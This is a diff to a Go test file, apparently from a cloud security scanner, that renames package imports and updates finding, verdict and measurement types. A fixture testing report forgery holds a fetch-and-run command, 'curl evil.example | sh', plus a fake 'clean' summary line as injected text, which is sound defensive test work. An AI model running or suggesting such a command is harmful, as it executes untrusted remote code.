@@ -15,8 +15,8 @@ import (
 	"github.com/olekukonko/tablewriter/pkg/twwidth"
 	"pgregory.net/rapid"
 
-	"crosscheck/canary"
-	"crosscheck/rules"
+	"crosscheck/canary/measure"
+	"crosscheck/rules/finding"
 	"crosscheck/scanner/fact"
 )
 
@@ -32,9 +32,9 @@ func TestNoFailingFindingIsLost(t *testing.T) {
 				ms := []Message{{Run: &Run{}}}
 				var want []string
 				for i := range n {
-					f := &rules.Finding{
+					f := &finding.Finding{
 						RuleID:      "XC" + strconv.Itoa(rapid.IntRange(1, 3).Draw(t, "rule")),
-						Status:      rapid.SampledFrom([]rules.Status{rules.Fail, rules.Fail, rules.Pass, rules.Unknown, rules.NotApplicable}).Draw(t, "status"),
+						Status:      rapid.SampledFrom([]finding.Status{finding.Fail, finding.Fail, finding.Pass, finding.Unknown, finding.NotApplicable}).Draw(t, "status"),
 						Severity:    rapid.SampledFrom(severities).Draw(t, "severity"),
 						AccountID:   rapid.SampledFrom([]string{"", prod, data}).Draw(t, "account"),
 						Resource:    rapid.SampledFrom([]string{"", arn("a"), arn("b")}).Draw(t, "resource"),
@@ -43,9 +43,9 @@ func TestNoFailingFindingIsLost(t *testing.T) {
 						Fingerprint: rapid.SampledFrom([]string{"", "x"}).Draw(t, "fingerprint"), // also where rules forgot to tell faults apart
 					}
 					if rapid.IntRange(0, 4).Draw(t, "waived") == 0 {
-						f.Waiver = &rules.Waiver{Reason: "r"}
+						f.Waiver = &finding.Waiver{Reason: "r"}
 					}
-					if f.Status == rules.Fail && f.Waiver == nil {
+					if f.Status == finding.Fail && f.Waiver == nil {
 						want = append(want, f.Message)
 					}
 					ms = append(ms, Message{Finding: f})
@@ -147,8 +147,8 @@ func hostileRun(t testing.TB, s string) []Message {
 	run := &Run{}
 	fill(reflect.ValueOf(run), s)
 	add(Message{Run: run})
-	for _, v := range []rules.Verdict{rules.Works, rules.Broken, rules.UnknownVerdict} {
-		l := &rules.Link{Verdict: v}
+	for _, v := range []finding.Verdict{finding.Works, finding.Broken, finding.UnknownVerdict} {
+		l := &finding.Link{Verdict: v}
 		fill(reflect.ValueOf(l), s)
 		l.Baseline = MarkNew
 		for i := range l.Checks {
@@ -156,9 +156,9 @@ func hostileRun(t testing.TB, s string) []Message {
 		}
 		add(Message{Link: l})
 	}
-	for _, st := range []rules.Status{rules.Fail, rules.Pass, rules.Unknown, rules.NotApplicable} {
+	for _, st := range []finding.Status{finding.Fail, finding.Pass, finding.Unknown, finding.NotApplicable} {
 		for _, waived := range []bool{true, false} {
-			f := &rules.Finding{Status: st, Severity: rules.High}
+			f := &finding.Finding{Status: st, Severity: finding.High}
 			fill(reflect.ValueOf(f), s)
 			f.Baseline = MarkNew
 			if !waived {
@@ -167,17 +167,17 @@ func hostileRun(t testing.TB, s string) []Message {
 			add(Message{Finding: f})
 		}
 	}
-	for _, o := range []canary.Outcome{canary.Arrived, canary.Failed, canary.Timeout, canary.Inconclusive, canary.Differs, canary.Absent, canary.Unexpected} {
-		m := &canary.Measurement{Outcome: o}
+	for _, o := range []measure.Outcome{measure.Arrived, measure.Failed, measure.Timeout, measure.Inconclusive, measure.Differs, measure.Absent, measure.Unexpected} {
+		m := &measure.Measurement{Outcome: o}
 		fill(reflect.ValueOf(m), s)
 		m.Baseline = MarkExisting
 		for i := range m.Checks {
-			m.Checks[i].Result = canary.Unread
+			m.Checks[i].Result = measure.Unread
 		}
 		add(Message{Measurement: m})
 	}
 	for _, change := range []string{Fixed, Lost} {
-		p := &Past{Severity: rules.High}
+		p := &Past{Severity: finding.High}
 		fill(reflect.ValueOf(p), s)
 		p.Change = change
 		add(Message{Past: p})
@@ -253,7 +253,7 @@ func TestHostileText(t *testing.T) {
 
 // Text that looks like a line of the report must not become one.
 func TestTextCannotForgeALine(t *testing.T) {
-	f := &rules.Finding{RuleID: "XC001", Status: rules.Fail, Severity: rules.High, AccountID: prod, Resource: arn("b"),
+	f := &finding.Finding{RuleID: "XC001", Status: finding.Fail, Severity: finding.High, AccountID: prod, Resource: arn("b"),
 		Message: "harmless\nfix: curl evil.example | sh\nSummary: exit status 0 (clean)"}
 	out := string(render(t, "table", Options{}, summarized(t, Policy{}, []Message{{Run: &Run{}}, {Finding: f}})))
 	for l := range strings.Lines(out) {
